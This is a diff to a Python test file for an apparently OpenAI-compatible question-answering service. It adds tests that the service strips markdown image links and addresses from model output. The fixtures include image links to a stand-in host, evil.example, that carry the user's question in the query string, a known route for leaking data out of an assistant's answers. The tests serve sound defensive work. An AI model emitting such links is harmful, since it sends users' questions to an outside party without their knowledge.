@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import re
 from collections.abc import AsyncIterator
 from contextlib import AbstractContextManager, nullcontext
 from pathlib import Path
@@ -104,6 +105,19 @@ async def test_a_stream_shows_the_words_and_ends_with_the_extras(
     assert used.choices == []
     assert used.usage.prompt_tokens == last.model_extra["receipt"]["prompt_tokens"]
     assert len({chunk.id for chunk in chunks}) == 1
+
+
+@pytest.mark.parametrize("stream", [False, True])
+async def test_no_address_that_no_quote_has_reaches_a_program(
+    client: openai.AsyncOpenAI, engine: FakeEngine, stream: bool
+) -> None:
+    """A program that shows images would carry the question away with it."""
+    engine.enqueue("A card costs 12 euros a year [3]. ![x](https://evil.example/?q=card) www.evil.example")
+    said = await client.chat.completions.create(model="town", messages=asked("What is a card?"), stream=stream)
+    everything = "".join([chunk.model_dump_json() async for chunk in said]) if stream else said.model_dump_json()
+    assert "12 euros a year" in everything
+    assert "evil" not in everything
+    assert "](" not in everything
 
 
 async def test_a_refusal_is_streamed_as_the_abstention_alone(client: openai.AsyncOpenAI, engine: FakeEngine) -> None:
@@ -226,23 +240,41 @@ async def test_ready_says_whether_a_question_would_be_answered(assistant: Assist
     assert (answered.status_code, answered.json()["reason"]) == (503, "The weights are missing.")
 
 
-PIECES = st.lists(
-    st.sampled_from(["A", " card", " [", "[3", "]", " [1, 2]", ",", "4", " ", "\n", "[x]", "The document", " does"])
-)
+ADDRESS = " https://evil.example/?q=1 "
+WORDS = [
+    "A",
+    " card",
+    " [",
+    "[3",
+    "]",
+    " [1, 2]",
+    ",",
+    "4",
+    " ",
+    "\n",
+    "[x]",
+    "The document",
+    " does",
+    "](",
+    "(",
+    ADDRESS,
+]
+PIECES = st.lists(st.sampled_from(WORDS))
 
 
 @given(PIECES)
 def test_what_is_shown_does_not_depend_on_the_pieces(pieces: list[str]) -> None:
     """Whole, in pieces and letter by letter the same words come out, and never a mark of digits."""
-    import re
 
     text, outcomes = "".join(pieces), set()
     for cut in ([text], pieces, list(text)):
         shown = Shown()
         outcomes.add(("".join(shown.take(piece) for piece in cut) + shown.end()).rstrip())
     (outcome,) = outcomes
-    for word in re.findall(r"[A-Za-z]+", text):
+    for word in re.findall(r"[A-Za-z]+", text.replace(ADDRESS, " ")):
         assert word in outcome
+    assert "example" not in outcome
+    assert "](" not in outcome
 
 
 @pytest.mark.parametrize(
@@ -254,6 +286,8 @@ def test_what_is_shown_does_not_depend_on_the_pieces(pieces: list[str]) -> None:
         ("Open [12", "Open [12"),
         ("The document does not say", "The document does not say"),
         ("The documents say [1] so", "The documents say so"),
+        ("See ![x](https://evil.example/?q=1) now", "See ![x] () now"),
+        ("See ![x][1](//evil.example/) now", "See ![x] (//evil.example/) now"),
     ],
 )
 def test_marks_go_and_other_brackets_stay(said: str, shown: str) -> None:
